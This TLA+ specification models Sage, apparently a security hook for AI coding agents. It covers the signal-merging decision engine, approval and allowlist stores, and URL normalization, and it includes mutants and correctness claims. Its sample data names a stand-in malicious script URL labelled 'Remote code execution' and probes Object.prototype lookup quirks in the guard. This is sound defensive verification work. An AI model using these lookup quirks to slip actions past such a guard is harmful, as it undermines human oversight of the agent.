---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* A model of Sage (FeiyouG/sage): the decision engine, the Claude-Code   *)
(* approval tracker and allowlist tool-server, the package supply-chain   *)
(* checker with its registry client, and the PreToolUse hook.             *)
(*                                                                         *)
(* Each component has its own specification (SpecEngine, SpecTracker,     *)
(* SpecAllowlist, SpecLimit, SpecPackage, SpecHook) over their variables; *)
(* the variables of the other components stay at their initial values.    *)
(* The connectors and stores follow the same pattern: the OpenClaw gate    *)
(* (SpecClaw), the verdict cache (SpecCache), the audit log (SpecAudit),   *)
(* the threat loader (SpecThreat), the URL allowlist round trip            *)
(* (SpecRoundTrip), the version bump script (SpecBump), the file           *)
(* reputation client (SpecBatch), the trusted domains (SpecTrust), the     *)
(* reading of the audit log (SpecRecent), the approval stores under file   *)
(* faults (SpecFault), the field values of loaded rules (SpecRuleFields)   *)
(* and one whole checkPackages call under fair scheduling                  *)
(* (SpecCheckPackages).                                                    *)
(*                                                                         *)
(* Confidences are in hundredths (0.85 is 85).  Times of the approval     *)
(* tracker are in ticks of ten minutes, times of the package checker in   *)
(* days.                                                                   *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, Bags, TLC

VARIABLES
    \* decision engine (engine.ts)
    sensitivity,        \* the preset name given to the constructor
    sources,            \* SignalSources handed to decide()
    verdict             \* the Verdict decide() returned, or NoVerdict

engineVars == <<sensitivity, sources, verdict>>

VARIABLES
    \* approval tracker (approval-tracker.ts) and allowlist tool-server (mcp-server.ts)
    now,                \* Date.now(), in ticks of ten minutes
    pendingFile,        \* ~/.sage/pending-approvals.json: tool_use_id -> PendingApproval
    consumedFile,       \* ~/.sage/consumed-approvals.json: consumedKey -> ConsumedApproval
    allowlistFile,      \* ~/.sage/allowlist.json: urls and commands
    calls,              \* the sage_allowlist_add calls in progress, per caller
    approvals,          \* per consumed key: how many approvals were consumed (history)
    adds,               \* per consumed key: how many sage_allowlist_add calls succeeded (history)
    last                \* the operation that completed last, with its result (history)

trackerVars == <<now, pendingFile, consumedFile, last>>
allowlistVars == <<allowlistFile, calls, approvals, adds>>

\* PackageChecker.runWithConcurrencyLimit: the position of one call
VARIABLES run

limitVars == <<run>>

\* PackageChecker.checkPackages on one package: the position of the check
VARIABLES check

packageVars == <<check>>

\* PreToolUse hook: the position of one invocation
VARIABLES hook

hookVars == <<hook>>

\* OpenClaw connector: the approval store, the tool-call handler, sage_approve
VARIABLES
    clawNow,            \* Date.now(), in ticks of one approval lifetime unit
    approvalStore,      \* ApprovalStore: actionId -> {approvedAt, expiresAt}
    recorded,           \* per action id: when sage_approve last approved it (history)
    clawLast            \* the call that completed last, with its result (history)

clawVars == <<clawNow, approvalStore, recorded, clawLast>>

\* Verdict cache (cache.ts)
VARIABLES
    cacheNow,           \* Date.now(), in ticks
    cacheConfig,        \* the CacheConfig given to the constructor
    cache,              \* the maps in memory: urls and commands
    cacheFile,          \* ~/.sage/cache.json
    cacheLast           \* the call that completed last, with its result (history)

cacheVars == <<cacheNow, cacheConfig, cache, cacheFile, cacheLast>>

\* Audit log (audit-log.ts)
VARIABLES
    auditFile,          \* ~/.sage/audit.jsonl: its lines
    auditLast           \* the call that completed last (history)

auditVars == <<auditFile, auditLast>>

\* Threat rule loader (threat-loader.ts)
VARIABLES
    threatNow,          \* Date.now(), in ticks
    threatLoad          \* one loadThreats call: its position and its result so far

threatVars == <<threatNow, threatLoad>>

\* Allowlist round trip (allowlist.ts)
VARIABLES
    urlAllowlist,       \* the Allowlist the calls work on
    urlAdded,           \* the URLs given to addUrl so far (history)
    urlProbe            \* the last isAllowlisted call, with its result (history)

roundTripVars == <<urlAllowlist, urlAdded, urlProbe>>

\* Version-bump script (scripts/bump.mjs)
VARIABLES
    manifests,          \* the seven manifests on disk
    bump                \* one run of the script: its position and its exit status

bumpVars == <<manifests, bump>>

\* FileCheckClient.checkHashes: the position of one call
VARIABLES batch

batchVars == <<batch>>

\* Trusted installer domains: the load in progress and the last question asked
VARIABLES trustLoad, trustProbe

trustVars == <<trustLoad, trustProbe>>

\* getRecentEntries: the audit log file as it is read, and the last call
VARIABLES recentFile, recentLast

recentVars == <<recentFile, recentLast>>

\* Approval tracker with failing reads and writes: the last call (history)
VARIABLES faultLast

faultVars == <<faultLast>>

\* The components of the connectors and stores that follow the hook
laterVars == <<clawVars, cacheVars, auditVars, threatVars, roundTripVars, bumpVars,
               batchVars, trustVars, recentVars, faultVars>>

firstVars == <<engineVars, trackerVars, allowlistVars, limitVars, packageVars, hookVars>>

vars == <<firstVars, laterVars>>

NoVerdict == [decision |-> "none"]

Max(S) == CHOOSE x \in S : \A y \in S : y <= x

Range(s) == { s[i] : i \in 1..Len(s) }

(***************************************************************************)
(* Decision engine                                                         *)
(***************************************************************************)

\* const CONFIDENCE_THRESHOLD = 0.85
CONFIDENCE_THRESHOLD == 85

\* Names every plain object inherits from Object.prototype: a lookup
\* SENSITIVITY_THRESHOLDS[name] with one of them finds the inherited member,
\* which is neither null nor undefined.
ObjectPrototypeKeys == {"constructor", "toString", "valueOf", "hasOwnProperty"}

\* What SENSITIVITY_THRESHOLDS[name] evaluates to: the own number, an
\* inherited member of Object.prototype, or undefined.
SENSITIVITY_THRESHOLDS(name) ==
    CASE name = "paranoid" -> [kind |-> "number", value |-> 70]
      [] name = "balanced" -> [kind |-> "number", value |-> 85]
      [] name = "relaxed"  -> [kind |-> "number", value |-> 95]
      [] name \in ObjectPrototypeKeys -> [kind |-> "object", value |-> 0]
      [] OTHER -> [kind |-> "undefined", value |-> 0]

\* constructor: this.threshold = SENSITIVITY_THRESHOLDS[sensitivity] ?? CONFIDENCE_THRESHOLD
\* (?? replaces only null and undefined)
Threshold(name) ==
    LET t == SENSITIVITY_THRESHOLDS(name)
    IN  IF t.kind = "undefined"
        THEN [kind |-> "number", value |-> CONFIDENCE_THRESHOLD]
        ELSE t

\* maxConfidence < this.threshold: with a threshold that is no number the
\* comparison is one with NaN, which is false.
BelowThreshold(conf, t) == t.kind = "number" /\ conf < t.value

\* What a lookup finds for a name inherited from Object.prototype: a function,
\* which is no Decision
InheritedMember == "[Function]"

\* ACTION_MAP[match.threat.action] ?? "ask": ACTION_MAP is a plain object, so
\* an inherited name finds a member that ?? does not replace
ACTION_MAP(action) ==
    CASE action = "block" -> "deny"
      [] action = "require_approval" -> "ask"
      [] action = "log" -> "allow"
      [] action \in ObjectPrototypeKeys -> InheritedMember
      [] OTHER -> "ask"

\* SEVERITY_MAP[match.threat.severity] ?? "warning"
SEVERITY_MAP(severity) ==
    CASE severity = "critical" -> "critical"
      [] severity = "high" -> "warning"
      [] severity = "medium" -> "warning"
      [] severity = "low" -> "info"
      [] OTHER -> "warning"

\* DECISION_PRIORITY[decision] ?? 0
DECISION_PRIORITY(decision) ==
    CASE decision = "deny" -> 2
      [] decision = "ask" -> 1
      [] OTHER -> 0

\* collectSignals, first loop: one signal per heuristic match
HeuristicSignal(match) ==
    [decision   |-> ACTION_MAP(match.threat.action),
     category   |-> match.threat.category,
     confidence |-> match.threat.confidence,
     severity   |-> SEVERITY_MAP(match.threat.severity),
     source     |-> "heuristic",
     threatId   |-> match.threat.id,
     reason     |-> match.threat.title,
     artifact   |-> match.artifact]

\* collectSignals, second loop: a deny signal when the URL is malicious, then
\* one ask signal per flag
UrlSignals(result) ==
    (IF result.isMalicious
     THEN << [decision |-> "deny", category |-> "network_egress", confidence |-> 100,
              severity |-> "critical", source |-> "url_check", threatId |-> "null",
              reason |-> "Malicious URL", artifact |-> result.url] >>
     ELSE << >>)
    \o [i \in 1..Len(result.flags) |->
          [decision |-> "ask", category |-> "network_egress", confidence |-> 75,
           severity |-> "warning", source |-> "url_check", threatId |-> "null",
           reason |-> result.flags[i], artifact |-> result.url]]

PackageSignal(pkg, decision, confidence, severity) ==
    << [decision |-> decision, category |-> "supply_chain", confidence |-> confidence,
        severity |-> severity, source |-> "package_check", threatId |-> "null",
        reason |-> pkg.details, artifact |-> pkg.packageName] >>

\* packageVerdictToSignal (and the "clean" skip of collectSignals): the
\* signals of one package result, none for clean or an unknown verdict
packageVerdictToSignal(pkg) ==
    CASE pkg.verdict = "not_found"      -> PackageSignal(pkg, "deny", 95, "critical")
      [] pkg.verdict = "malicious"      -> PackageSignal(pkg, "deny", 100, "critical")
      [] pkg.verdict = "suspicious_age" -> PackageSignal(pkg, "ask", 75, "warning")
      [] pkg.verdict = "unknown"        -> PackageSignal(pkg, "ask", 60, "warning")
      [] OTHER -> << >>

RECURSIVE Flatten(_)
Flatten(ss) == IF ss = << >> THEN << >> ELSE Head(ss) \o Flatten(Tail(ss))

\* collectSignals: heuristic signals, then URL signals, then package signals
collectSignals(src) ==
    [i \in 1..Len(src.heuristicMatches) |-> HeuristicSignal(src.heuristicMatches[i])]
    \o Flatten([i \in 1..Len(src.urlCheckResults) |-> UrlSignals(src.urlCheckResults[i])])
    \o Flatten([i \in 1..Len(src.packageCheckResults) |->
                  packageVerdictToSignal(src.packageCheckResults[i])])

WithPriority(signals, p) == SelectSeq(signals, LAMBDA s : DECISION_PRIORITY(s.decision) = p)

RECURSIVE Reversed(_)
Reversed(xs) == IF xs = << >> THEN << >> ELSE Reversed(Tail(xs)) \o <<Head(xs)>>

\* Mutant of SortByPriority: an unstable sort, the signals of one priority
\* coming out in the opposite order
SortByPriorityUnstable(signals) ==
    Reversed(WithPriority(signals, 2)) \o Reversed(WithPriority(signals, 1))
        \o Reversed(WithPriority(signals, 0))

\* Mutant of SortByPriority: the comparator's operands exchanged (ascending)
SortByPriorityAscending(signals) ==
    WithPriority(signals, 0) \o WithPriority(signals, 1) \o WithPriority(signals, 2)

\* signals.sort((a, b) => priority(b) - priority(a)): Array.prototype.sort is
\* stable, so the signals of one priority keep their order
SortByPriority(signals) ==
    WithPriority(signals, 2) \o WithPriority(signals, 1) \o WithPriority(signals, 0)

RECURSIVE DedupKeepingLast(_, _)
\* Mutant of Dedup: each value once, in the order of its last occurrence
DedupKeepingLast(xs, seen) ==
    IF xs = << >> THEN << >>
    ELSE IF Head(xs) \in Range(Tail(xs)) THEN DedupKeepingLast(Tail(xs), seen)
         ELSE <<Head(xs)>> \o DedupKeepingLast(Tail(xs), seen)

\* Mutant of Dedup: every occurrence kept
KeepDuplicates(xs, seen) == xs

RECURSIVE Dedup(_, _)
\* [...new Map(xs.map((x) => [x, x])).values()]: each value once, in the
\* order of its first occurrence
Dedup(xs, seen) ==
    IF xs = << >> THEN << >>
    ELSE IF Head(xs) \in seen THEN Dedup(Tail(xs), seen)
         ELSE <<Head(xs)>> \o Dedup(Tail(xs), seen \cup {Head(xs)})

allowVerdict ==
    [decision |-> "allow", category |-> "none", confidence |-> 100, severity |-> "info",
     source |-> "none", artifacts |-> << >>, matchedThreatId |-> "null", reasons |-> << >>]

\* if (decision === "deny" && maxConfidence < this.threshold) decision = "ask"
Soften(decision, maxConfidence, threshold) ==
    IF decision = "deny" /\ BelowThreshold(maxConfidence, threshold)
    THEN "ask" ELSE decision

\* DecisionEngine.decide
decide(src, preset) ==
    LET signals == collectSignals(src)
        sorted  == SortByPriority(signals)
        top     == sorted[1]
        maxConfidence == Max({ sorted[i].confidence : i \in 1..Len(sorted) })
    IN  IF signals = << >> THEN allowVerdict
        ELSE [decision   |-> Soften(top.decision, maxConfidence, Threshold(preset)),
              category   |-> top.category,
              confidence |-> maxConfidence,
              severity   |-> top.severity,
              source     |-> top.source,
              artifacts  |-> Dedup([i \in 1..Len(sorted) |-> sorted[i].artifact], {}),
              matchedThreatId |-> top.threatId,
              reasons    |-> Dedup([i \in 1..Len(sorted) |-> sorted[i].reason], {})]

(***************************************************************************)
(* Decision engine: the inputs of one decide() call                        *)
(***************************************************************************)

\* Bound: heuristic matches, URL results and package results in one call
MaxSources == 3

Presets == {"paranoid", "balanced", "relaxed", "unknown", "constructor"}

Confidences == {69, 70, 84, 85, 94, 95, 99}

ThreatActions == {"block", "require_approval", "log"}

SeverityOf(action) ==
    CASE action = "block" -> "critical"
      [] action = "require_approval" -> "high"
      [] OTHER -> "low"

\* Actions a rule file can name besides the three: the loader keeps them as read
OtherActions == {"warn", "constructor"}

SampleMatches ==
    { [threat |-> [id |-> a \o "-" \o ToString(c), category |-> "tool", action |-> a,
                   confidence |-> c, severity |-> SeverityOf(a), title |-> "rule " \o a],
       artifact |-> "cmd"] : a \in ThreatActions, c \in Confidences }
    \cup
    { [threat |-> [id |-> a \o "-99", category |-> "tool", action |-> a,
                   confidence |-> 99, severity |-> SeverityOf(a), title |-> "rule " \o a],
       artifact |-> "cmd"] : a \in OtherActions }

SampleUrlResults ==
    { [url |-> "http://u.test/", isMalicious |-> m, flags |-> f] :
        m \in BOOLEAN, f \in {<< >>, <<"Suspicious URL: TYPOSQUATTING">>} }

SamplePackageResults ==
    { [packageName |-> "pkg", verdict |-> v, details |-> "pkg " \o v] :
        v \in {"clean", "not_found", "malicious", "suspicious_age", "unknown"} }

NoSources == [heuristicMatches |-> << >>, urlCheckResults |-> << >>,
              packageCheckResults |-> << >>]

SourceCount(src) ==
    Len(src.heuristicMatches) + Len(src.urlCheckResults) + Len(src.packageCheckResults)

EngineIdle == sensitivity = "balanced" /\ sources = NoSources /\ verdict = NoVerdict

\* new DecisionEngine(sensitivity)
EngineInit == sensitivity \in Presets /\ sources = NoSources /\ verdict = NoVerdict

AddHeuristicMatch(m) ==
    /\ SourceCount(sources) < MaxSources
    /\ sources' = [sources EXCEPT !.heuristicMatches = Append(@, m)]
    /\ verdict' = NoVerdict
    /\ UNCHANGED sensitivity

AddUrlCheckResult(r) ==
    /\ SourceCount(sources) < MaxSources
    /\ sources' = [sources EXCEPT !.urlCheckResults = Append(@, r)]
    /\ verdict' = NoVerdict
    /\ UNCHANGED sensitivity

AddPackageCheckResult(p) ==
    /\ SourceCount(sources) < MaxSources
    /\ sources' = [sources EXCEPT !.packageCheckResults = Append(@, p)]
    /\ verdict' = NoVerdict
    /\ UNCHANGED sensitivity

\* await engine.decide(sources)
Decide ==
    /\ verdict = NoVerdict
    /\ verdict' = decide(sources, sensitivity)
    /\ UNCHANGED <<sensitivity, sources>>

(***************************************************************************)
(* Claims about the decision engine                                        *)
(***************************************************************************)

\* The threshold the specification states for a preset name: paranoid 0.70,
\* balanced 0.85, relaxed 0.95, any other name 0.85
StatedThreshold(name) ==
    CASE name = "paranoid" -> 70
      [] name = "relaxed" -> 95
      [] OTHER -> 85

Signals == collectSignals(sources)

SignalDecisions == { Signals[i].decision : i \in 1..Len(Signals) }

\* The decision of a signal of the highest priority present
HighestDecision ==
    CHOOSE d \in SignalDecisions :
        \A e \in SignalDecisions : DECISION_PRIORITY(e) <= DECISION_PRIORITY(d)

MaxSignalConfidence == Max({ Signals[i].confidence : i \in 1..Len(Signals) })

Decided == verdict # NoVerdict

\* C2: for every non-empty signal set and every preset name, the decision is
\* that of the highest-priority signal, except that a deny whose maximum
\* confidence over all signals is strictly below the stated threshold
\* (paranoid 70, balanced 85, relaxed 95, any other name 85) becomes ask.
C2_DecisionRule ==
    (Decided /\ Signals # << >>) =>
        verdict.decision =
            IF HighestDecision = "deny" /\ MaxSignalConfidence < StatedThreshold(sensitivity)
            THEN "ask" ELSE HighestDecision

\* C3: whenever some deny signal has a confidence at or above the active
\* threshold, the verdict is deny, whatever ask and allow signals (of any
\* confidence) accompany it.
C3_DenyWinsMerge ==
    (Decided /\ \E i \in 1..Len(Signals) :
                    /\ Signals[i].decision = "deny"
                    /\ Signals[i].confidence >= StatedThreshold(sensitivity))
        => verdict.decision = "deny"

\* C3 witness: a deny at 0.95 decided together with an ask at 0.99
C3_Witness ==
    /\ Decided
    /\ verdict.decision = "deny"
    /\ \E i, j \in 1..Len(Signals) :
          /\ Signals[i].decision = "deny" /\ Signals[i].confidence = 95
          /\ Signals[j].decision = "ask" /\ Signals[j].confidence = 99
          /\ j < i

\* The signals placed before signal i by the priority sort: those of a higher
\* priority, and those of the same priority collected earlier
Before(i) ==
    { j \in 1..Len(Signals) :
        LET pi == DECISION_PRIORITY(Signals[i].decision)
            pj == DECISION_PRIORITY(Signals[j].decision)
        IN  pj > pi \/ (pj = pi /\ j < i) }

\* The place of signal i after the priority sort
Rank(i) == Cardinality(Before(i)) + 1

Least(S) == CHOOSE x \in S : \A y \in S : x <= y

\* out lists every value of field(signal) once, a value coming before another
\* when its first signal, by place(i), comes before the other's
FirstSeenBy(out, field(_), place(_)) ==
    LET first(v) == Least({ place(i) : i \in { k \in 1..Len(Signals) : field(Signals[k]) = v } })
    IN  /\ Range(out) = { field(Signals[i]) : i \in 1..Len(Signals) }
        /\ \A a, b \in 1..Len(out) : a < b => first(out[a]) < first(out[b])

ArtifactOf(s) == s.artifact

ReasonOf(s) == s.reason

Collected(i) == i

\* C21 as stated: artifacts and reasons are the unions over all signals, each
\* value once, ordered by the first signal in which the value occurs, the
\* signals taken in the order they were collected.
C21_FirstSeenCollected ==
    (Decided /\ Signals # << >>) =>
        /\ FirstSeenBy(verdict.artifacts, ArtifactOf, Collected)
        /\ FirstSeenBy(verdict.reasons, ReasonOf, Collected)

\* C21 as amended: artifacts and reasons are the unions over all signals, each
\* value once, ordered by the first signal in which the value occurs, the
\* signals taken in the order the priority sort leaves them in (deny, then
\* ask, then the rest, the signals of one priority in collection order).
C21_FirstSeenSorted ==
    (Decided /\ Signals # << >>) =>
        /\ FirstSeenBy(verdict.artifacts, ArtifactOf, Rank)
        /\ FirstSeenBy(verdict.reasons, ReasonOf, Rank)

\* C21 witness: three signals on two artifacts give two artifacts and three
\* reasons, and the reason listed first is not that of the signal collected first
C21_Witness ==
    /\ Decided
    /\ Len(Signals) = 3
    /\ Len(verdict.artifacts) = 2
    /\ Len(verdict.reasons) = 3
    /\ verdict.reasons[1] # Signals[1].reason

\* The signals of the highest priority present, by their place in collection
TopPlaces ==
    { i \in 1..Len(Signals) :
        \A j \in 1..Len(Signals) :
            DECISION_PRIORITY(Signals[j].decision) <= DECISION_PRIORITY(Signals[i].decision) }

\* C22: among the signals of the highest decision priority, the one collected
\* first (heuristic matches in input order, then URL signals, then package
\* signals) supplies the verdict's category, severity, source and
\* matchedThreatId.
C22_FirstCollectedIsTop ==
    (Decided /\ Signals # << >>) =>
        LET top == Signals[Least(TopPlaces)]
        IN  /\ verdict.category = top.category
            /\ verdict.severity = top.severity
            /\ verdict.source = top.source
            /\ verdict.matchedThreatId = top.threatId

\* C22 witness: a heuristic block match decided together with a malicious URL
\* result gives source heuristic
C22_Witness ==
    /\ Decided
    /\ \E i \in 1..Len(sources.heuristicMatches) :
          sources.heuristicMatches[i].threat.action = "block"
    /\ \E i \in 1..Len(sources.urlCheckResults) : sources.urlCheckResults[i].isMalicious
    /\ verdict.source = "heuristic"

\* The places of the heuristic matches that repeat an earlier match
Copies ==
    { j \in 1..Len(sources.heuristicMatches) :
        \E i \in 1..(j - 1) : sources.heuristicMatches[i] = sources.heuristicMatches[j] }

\* The sources without the heuristic match at place j
WithoutMatch(j) ==
    [sources EXCEPT !.heuristicMatches =
        SubSeq(@, 1, j - 1) \o SubSeq(@, j + 1, Len(@))]

\* C24: a second copy of a heuristic match that is already present changes no
\* field of the verdict: the verdict is the one decide gives without the copy.
C24_DuplicateHarmless ==
    Decided => \A j \in Copies : verdict = decide(WithoutMatch(j), sensitivity)

\* C24 witness: a match, another signal of the same priority on another
\* artifact, and a copy of the match are decided
C24_Witness ==
    /\ Decided
    /\ Copies # {}
    /\ Len(sources.urlCheckResults) = 1
    /\ Len(verdict.artifacts) = 2

\* C27: the verdict is allow if and only if no signal is ask or deny, and it
\* is deny only if some signal is deny.
C27_NoEvidenceDropped ==
    Decided =>
        /\ verdict.decision = "allow" <=> SignalDecisions \cap {"ask", "deny"} = {}
        /\ verdict.decision = "deny" => "deny" \in SignalDecisions

(***************************************************************************)
(* Approval tracker                                                        *)
(***************************************************************************)

\* const PENDING_STALE_MS = 60 * 60 * 1000, in ticks of ten minutes
PENDING_STALE_MS == 6

\* const CONSUMED_TTL_MS = 10 * 60 * 1000, in ticks of ten minutes
CONSUMED_TTL_MS == 1

\* A store read from a missing file: loadJson(...) ?? {}
EmptyStore == [k \in {} |-> 0]

NoEntry == [none |-> TRUE]

Restrict(f, S) == [k \in S |-> f[k]]

Put(f, k, v) == [x \in DOMAIN f \cup {k} |-> IF x = k THEN v ELSE f[x]]

Remove(f, k) == Restrict(f, DOMAIN f \ {k})

\* pruneStalePending keeping an entry whose age is exactly one hour
pruneStalePendingInclusive(store, t) ==
    Restrict(store, { k \in DOMAIN store : t - store[k].createdAt <= PENDING_STALE_MS })

\* pruneStalePending: keeps the entries with now - createdAt < PENDING_STALE_MS
pruneStalePending(store, t) ==
    Restrict(store, { k \in DOMAIN store : t - store[k].createdAt < PENDING_STALE_MS })

\* consumedKey: `${artifactType}:${artifact}`
consumedKey(artifactType, artifact) == artifactType \o ":" \o artifact

\* store[toolUseId] on a plain object: an own entry, else a member inherited
\* from Object.prototype, else undefined
Get(store, id) ==
    IF id \in DOMAIN store THEN store[id]
    ELSE IF id \in ObjectPrototypeKeys THEN [inherited |-> id]
    ELSE NoEntry

\* entry.<name>: a field of a stored entry; undefined on an inherited member,
\* which a template string prints as "undefined"
Field(entry, name) ==
    IF "inherited" \in DOMAIN entry THEN "undefined" ELSE entry[name]

\* The entry consumePendingApproval writes for a pending entry at time t
ConsumedEntry(entry, t) ==
    [threatId |-> Field(entry, "threatId"), threatTitle |-> Field(entry, "threatTitle"),
     artifact |-> Field(entry, "artifact"), artifactType |-> Field(entry, "artifactType"),
     approvedAt |-> t, expiresAt |-> t + CONSUMED_TTL_MS]

\* findConsumedApproval returning the entry under the key whatever its expiry
findConsumedApprovalAnyAge(store, artifactType, artifact, t) ==
    LET key == consumedKey(artifactType, artifact)
    IN  IF key \in DOMAIN store THEN store[key] ELSE NoEntry

\* findConsumedApproval on the store read from the file: the entry under the
\* key unless new Date(entry.expiresAt).getTime() < Date.now()
findConsumedApproval(store, artifactType, artifact, t) ==
    LET key == consumedKey(artifactType, artifact)
    IN  IF key \notin DOMAIN store THEN NoEntry
        ELSE IF store[key].expiresAt < t THEN NoEntry
        ELSE store[key]

\* removeConsumedApproval on the store read from the file: delete store[key]
removeConsumedApproval(store, artifactType, artifact) ==
    Remove(store, consumedKey(artifactType, artifact))

\* Date.now() advances
Tick(bound) ==
    /\ now < bound
    /\ now' = now + 1
    /\ UNCHANGED <<pendingFile, consumedFile, last>>

\* addPendingApproval(toolUseId, approval)
AddPendingApproval(id, approval) ==
    LET store == pruneStalePending(pendingFile, now)
    IN  /\ pendingFile' = Put(store, id,
                              [threatId |-> approval.threatId,
                               threatTitle |-> approval.threatTitle,
                               artifact |-> approval.artifact,
                               artifactType |-> approval.artifactType,
                               createdAt |-> now])
        /\ last' = [op |-> "addPendingApproval", key |-> id, result |-> NoEntry]
        /\ UNCHANGED <<now, consumedFile>>

\* consumePendingApproval(toolUseId): a miss returns before anything is saved
ConsumePendingApproval(id) ==
    LET store == pruneStalePending(pendingFile, now)
        entry == Get(store, id)
    IN  IF entry = NoEntry
        THEN /\ last' = [op |-> "consumePendingApproval", key |-> id, result |-> NoEntry]
             /\ UNCHANGED <<now, pendingFile, consumedFile>>
        ELSE LET key == consumedKey(Field(entry, "artifactType"), Field(entry, "artifact"))
             IN  /\ pendingFile' = Remove(store, id)
                 /\ consumedFile' = Put(consumedFile, key, ConsumedEntry(entry, now))
                 /\ last' = [op |-> "consumePendingApproval", key |-> id, result |-> entry]
                 /\ UNCHANGED now

\* findConsumedApproval(artifactType, artifact)
FindConsumedApproval(artifactType, artifact) ==
    /\ last' = [op |-> "findConsumedApproval", key |-> consumedKey(artifactType, artifact),
                result |-> findConsumedApproval(consumedFile, artifactType, artifact, now)]
    /\ UNCHANGED <<now, pendingFile, consumedFile>>

\* removeConsumedApproval(artifactType, artifact)
RemoveConsumedApproval(artifactType, artifact) ==
    /\ consumedFile' = removeConsumedApproval(consumedFile, artifactType, artifact)
    /\ last' = [op |-> "removeConsumedApproval", key |-> consumedKey(artifactType, artifact),
                result |-> NoEntry]
    /\ UNCHANGED <<now, pendingFile>>

(***************************************************************************)
(* Approval tracker: the calls made                                        *)
(***************************************************************************)

\* Bound: the clock of the tracker specification, in ticks
MaxTime == 6

ToolUseIds == {"tool-1", "constructor"}

ArtifactTypes == {"url", "command"}

ArtifactValues == {"http://evil.test/x.sh", "HTTP://EVIL.TEST/x.sh"}

SampleApprovals ==
    { [threatId |-> "CLT-CMD-001", threatTitle |-> "Remote code execution",
       artifact |-> "http://evil.test/x.sh", artifactType |-> "command"],
      [threatId |-> "CLT-URL-001", threatTitle |-> "Suspicious URL",
       artifact |-> "http://evil.test/x.sh", artifactType |-> "url"],
      [threatId |-> "CLT-URL-001", threatTitle |-> "Suspicious URL",
       artifact |-> "HTTP://EVIL.TEST/x.sh", artifactType |-> "url"] }

NoCall == [op |-> "none", key |-> "", result |-> NoEntry]

TrackerInit ==
    /\ now = 0
    /\ pendingFile = EmptyStore
    /\ consumedFile = EmptyStore
    /\ last = NoCall

\* The approval and the artifact of the tracker specification
TrackerApprovals ==
    { a \in SampleApprovals : a.artifact = "http://evil.test/x.sh" /\ a.artifactType = "url" }

TrackerValues == { a.artifact : a \in TrackerApprovals }

(***************************************************************************)
(* Normalization utilities and user allowlist                              *)
(***************************************************************************)

\* One character of a string
Char(str, i) == SubSeq(str, i, i)

\* String.prototype.indexOf: the first position of sub in str, 0 when absent
IndexOf(str, sub) ==
    LET n == Len(sub)
        at == { i \in 1..(Len(str) - n + 1) : SubSeq(str, i, i + n - 1) = sub }
    IN  IF at = {} THEN 0 ELSE CHOOSE i \in at : \A j \in at : i <= j

UpperCaseLetters == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"

LowerCaseLetters == "abcdefghijklmnopqrstuvwxyz"

LowerChar(c) ==
    LET i == IndexOf(UpperCaseLetters, c)
    IN  IF i = 0 THEN c ELSE Char(LowerCaseLetters, i)

\* String.prototype.toLowerCase, on ASCII text
RECURSIVE ToLowerCase(_)
ToLowerCase(str) ==
    IF str = "" THEN ""
    ELSE LowerChar(Char(str, 1)) \o ToLowerCase(SubSeq(str, 2, Len(str)))

\* The text before the first sep, and the text after it ("" when sep is absent)
BeforeFirst(str, sep) ==
    IF IndexOf(str, sep) = 0 THEN str ELSE SubSeq(str, 1, IndexOf(str, sep) - 1)

AfterFirst(str, sep) ==
    IF IndexOf(str, sep) = 0 THEN ""
    ELSE SubSeq(str, IndexOf(str, sep) + Len(sep), Len(str))

\* The schemes the URL parser gives a host to lowercase
SpecialSchemes == {"http", "https", "ftp", "ws", "wss"}

\* new URL(raw), for absolute URLs of a special scheme without credentials,
\* port, dot segments or characters to percent-encode: it throws on any other
\* text used here; protocol and hostname are lowercased, an empty path is "/"
ParseUrl(raw) ==
    LET protocol == ToLowerCase(BeforeFirst(raw, "://"))
        rest     == AfterFirst(raw, "://")
        beforeHash  == BeforeFirst(rest, "#")
        beforeQuery == BeforeFirst(beforeHash, "?")
        hostname == ToLowerCase(BeforeFirst(beforeQuery, "/"))
        path     == SubSeq(beforeQuery, Len(hostname) + 1, Len(beforeQuery))
    IN  IF IndexOf(raw, "://") = 0 \/ protocol \notin SpecialSchemes \/ hostname = ""
        THEN [ok |-> FALSE, protocol |-> "", hostname |-> "", pathname |-> "",
              search |-> "", hash |-> ""]
        ELSE [ok |-> TRUE, protocol |-> protocol, hostname |-> hostname,
              pathname |-> IF path = "" THEN "/" ELSE path,
              search |-> AfterFirst(beforeHash, "?"),
              hash |-> AfterFirst(rest, "#")]

\* The characters of the sample URLs, in code unit order
CodeUnits == "#&./0123456789:=?ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"

\* a < b as the sort of URLSearchParams compares names: by code units
RECURSIVE NameBefore(_, _)
NameBefore(a, b) ==
    IF b = "" THEN FALSE
    ELSE IF a = "" THEN TRUE
    ELSE IF Char(a, 1) = Char(b, 1)
         THEN NameBefore(SubSeq(a, 2, Len(a)), SubSeq(b, 2, Len(b)))
         ELSE IndexOf(CodeUnits, Char(a, 1)) < IndexOf(CodeUnits, Char(b, 1))

\* new URLSearchParams(search): the name-value pairs, in order
RECURSIVE ParseSearch(_)
ParseSearch(search) ==
    IF search = "" THEN << >>
    ELSE LET pair == BeforeFirst(search, "&")
             tuples == ParseSearch(AfterFirst(search, "&"))
         IN  IF pair = "" THEN tuples
             ELSE <<[name |-> BeforeFirst(pair, "="), value |-> AfterFirst(pair, "=")]>>
                    \o tuples

\* One step of a stable sort: p goes behind every pair whose name is not after its own
RECURSIVE InsertParam(_, _)
InsertParam(sorted, p) ==
    IF sorted = << >> THEN <<p>>
    ELSE IF NameBefore(p.name, sorted[1].name) THEN <<p>> \o sorted
    ELSE <<sorted[1]>> \o InsertParam(Tail(sorted), p)

\* URLSearchParams.sort: by name, pairs of one name keep their order
RECURSIVE SortParams(_)
SortParams(params) ==
    IF params = << >> THEN << >>
    ELSE InsertParam(SortParams(SubSeq(params, 1, Len(params) - 1)),
                     params[Len(params)])

\* URLSearchParams.toString
RECURSIVE SerializeParams(_)
SerializeParams(params) ==
    IF params = << >> THEN ""
    ELSE params[1].name \o "=" \o params[1].value
         \o (IF Len(params) = 1 THEN "" ELSE "&" \o SerializeParams(Tail(params)))

\* normalizeUrl, with the fragment left in place
normalizeUrlKeepingHash(raw) ==
    LET u == ParseUrl(raw)
        params == SortParams(ParseSearch(u.search))
    IN  IF u.ok
        THEN u.protocol \o "://" \o u.hostname \o u.pathname
             \o (IF params = << >> THEN "" ELSE "?" \o SerializeParams(params))
             \o (IF u.hash = "" THEN "" ELSE "#" \o u.hash)
        ELSE ToLowerCase(raw)

